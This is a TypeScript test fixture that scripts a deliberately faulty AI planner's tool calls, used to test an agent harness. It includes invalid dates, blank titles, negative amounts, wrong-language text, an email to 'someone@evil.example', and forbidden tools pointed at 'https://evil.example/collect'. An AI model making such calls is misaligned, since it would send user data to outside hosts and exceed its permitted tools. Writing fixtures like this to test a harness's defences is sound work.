import { missionIn, roundOf } from './request.ts';
import type { RecordedRequest } from '#dev/recorded-request.ts';
import { replyWithToolCalls, type ScriptedCall, type ScriptedResponse } from '#dev/scripted-responses.ts';

/** In the language that the mission is not written in. */
const WORDS = {
  de: {
    title: 'One of the next things to do',
    words: 'Here is your plan: do this and all of the other things.',
  },
  en: {
    title: 'Eine von den nächsten Sachen',
    words: 'Hier ist der Plan für dich, mit allem, was noch zu tun ist.',
  },
};

/**
 * Everything that small models were seen to do wrong, in every round until none is left: made-up ids, days that do not exist,
 * an end before its start, empty texts, negative amounts, tools that are forbidden or do not exist, the wrong language, the
 * same calls again and again, something new to do in every round, and no word to end with.
 */
export function badPlanner(request: RecordedRequest): ScriptedResponse {
  const mission = missionIn(request);
  const { title, words } = WORDS[mission?.language ?? 'de'];
  const call = (name: string, args: ScriptedCall['arguments']): ScriptedCall => ({ name, arguments: args });
  return replyWithToolCalls(
    [
      call('create_task', { title }),
      call('create_task', { title: `${title} (${roundOf(request)})` }),
      call('create_task', { title, dueDate: '2026-02-30' }),
      call('create_task', { title: '  ' }),
      call('complete_task', { taskId: 'task-1' }),
      call('append_to_note', { noteId: '12345', content: title }),
      call('create_event', { title, startTime: '2023-10-05T10:00', endTime: '2023-10-05T09:00' }),
      call('log_drink', { drinkType: 'water', quantityMl: -1 }),
      call('send_email', { to: 'someone@evil.example', text: title }),
      ...(mission?.forbidden ?? []).map((name) => call(name, { url: 'https://evil.example/collect' })),
    ],
    words,
  );
}
